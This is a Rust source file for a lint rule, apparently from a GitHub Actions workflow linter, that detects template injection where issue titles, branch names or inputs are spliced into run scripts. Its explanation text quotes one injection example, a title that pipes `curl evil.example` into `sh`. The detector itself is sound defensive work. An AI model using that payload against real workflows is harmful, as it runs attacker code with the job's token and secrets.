//! Outside text that is spliced into a script.

use anyhow::Result;
use serde::Deserialize;

use super::view::{Context, View};
use crate::core::finding::{Group, Severity};
use crate::lint::rule::{Offence, Parameters, Rule};

pub(crate) const RULE: Rule = Rule {
    name: "template-injection",
    group: Group::Workflow,
    severity: Severity::High,
    summary: "Outside text is spliced into a script by an expression.",
    why: "GitHub replaces `${{ … }}` before the shell sees the script. An issue titled `\"; curl evil.example | sh #` \
          is then not a title but a command, run with the job's token and secrets. Anybody can write an issue, name \
          a branch or word a commit. Results of steps, inputs and variables carry such text on.\n\nParameters: \
          `safe`, look-ups that may be spliced (a last `*` takes what follows).",
    example: "```yaml\n- run: echo \"${{ github.event.issue.title }}\"\n```\n\nHand it over as data:\n\n```yaml\n- run: echo \
              \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.issue.title }}\n```",
    remedy: "set it as an `env` of the step, and use the variable, quoted, in the script",
};

/// What only GitHub or the workflow's author can have written.
const SAFE: [&str; 34] = [
    "github.action",
    "github.action_path",
    "github.api_url",
    "github.event.number",
    "github.event_name",
    "github.graphql_url",
    "github.job",
    "github.ref_protected",
    "github.ref_type",
    "github.repository",
    "github.repository_id",
    "github.repository_owner",
    "github.repository_owner_id",
    "github.retention_days",
    "github.run_attempt",
    "github.run_id",
    "github.run_number",
    "github.server_url",
    "github.sha",
    "github.workflow",
    "github.workflow_sha",
    "github.workspace",
    "github.actor_id",
    "job.status",
    "job.container.*",
    "job.services.*",
    "matrix.*",
    "runner.*",
    "strategy.*",
    "github.event_path",
    "github.env",
    "github.output",
    "github.path",
    "github.step_summary",
];

/// Fields of an event that are numbers, hashes or words of GitHub's own, whatever they belong to.
const SAFE_FIELDS: [&str; 9] =
    ["id", "number", "node_id", "sha", "merged", "draft", "action", "forced", "created_at"];

#[derive(Debug, Default, Deserialize)]
#[serde(default, deny_unknown_fields)]
struct Settings {
    safe: Vec<String>,
}

pub(super) fn check(view: &View<'_>, _: &Context<'_>, parameters: &Parameters) -> Result<Vec<Offence>> {
    let settings: Settings = parameters.of(&RULE)?;
    let mut offences = Vec::new();
    for (_, script) in view.scripts() {
        for found in view.within(script) {
            let Ok(expression) = &found.parsed else { continue };
            for path in expression.results() {
                if let Some(who) = who_writes(&path, &settings) {
                    let message = format!("`{}` is spliced into a script; {who}", path.join("."));
                    offences.push(view.offence(&RULE, found.span, message));
                }
            }
        }
    }
    Ok(offences)
}

/// Who decides what it says; nothing for what may be spliced.
fn who_writes(path: &[String], settings: &Settings) -> Option<&'static str> {
    let joined = path.join(".");
    let safe = SAFE.iter().copied().chain(settings.safe.iter().map(String::as_str));
    if safe.into_iter().any(|pattern| covers(pattern, &joined)) {
        return None;
    }
    let fields: Vec<&str> = path.iter().map(String::as_str).collect();
    match fields.as_slice() {
        // Secrets have a rule of their own; results are words of GitHub's.
        ["secrets", ..]
        | ["github", "token"]
        | ["needs", _, "result"]
        | ["steps", _, "outcome" | "conclusion"] => None,
        ["github", "event", "inputs", ..] => Some("whoever starts the workflow writes it"),
        ["github", "event", .., last] if SAFE_FIELDS.contains(last) => None,
        [
            "github",
            "event" | "head_ref" | "ref" | "ref_name" | "base_ref" | "actor" | "triggering_actor"
            | "workflow_ref",
            ..,
        ] => Some("anybody may write it"),
        ["inputs", ..] => Some("whoever calls it writes it"),
        _ => Some("it can carry outside text"),
    }
}

fn covers(pattern: &str, path: &str) -> bool {
    match pattern.strip_suffix(".*") {
        Some(start) => path.strip_prefix(start).is_some_and(|rest| rest.starts_with('.')),
        None => pattern == path,
    }
}
